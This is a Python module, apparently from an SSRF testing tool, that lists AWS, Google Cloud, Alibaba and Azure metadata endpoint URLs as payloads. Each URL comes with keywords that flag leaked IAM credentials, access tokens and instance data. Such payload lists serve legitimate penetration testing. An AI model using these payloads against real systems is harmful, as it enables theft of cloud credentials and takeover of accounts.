"""
Cloud instance metadata endpoints.

Keyword sets follow what each provider returns when the credentials or
instance document leak back through the vulnerable fetcher.
"""
from typing import List

from ssrfprobe.payloads.base import Category, ProbeDescriptor

CLOUD_METADATA_PAYLOADS = (
    # AWS
    ("http://169.254.169.254/latest/meta-data/", ("ami-id", "instance-id", "security-credentials")),
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", ("AccessKeyId", "SecretAccessKey", "Token")),
    ("http://169.254.169.254/latest/user-data/", ("user-data", "script")),
    # Google Cloud
    ("http://metadata.google.internal/computeMetadata/v1/", ("instance", "project", "service-accounts")),
    ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", ("access_token", "token_type")),
    # Alibaba Cloud
    ("http://100.100.100.200/latest/meta-data/", ("instance-id", "region-id")),
    ("http://100.100.100.200/latest/meta-data/ram/security-credentials/", ("AccessKeyId", "AccessKeySecret")),
    # Azure
    ("http://169.254.169.254/metadata/instance?api-version=2021-02-01", ("compute", "network", "vmId")),
)


def get_cloud_metadata_payloads() -> List[ProbeDescriptor]:
    return [ProbeDescriptor.create(value, Category.CLOUD_METADATA, keywords) for value, keywords in CLOUD_METADATA_PAYLOADS]
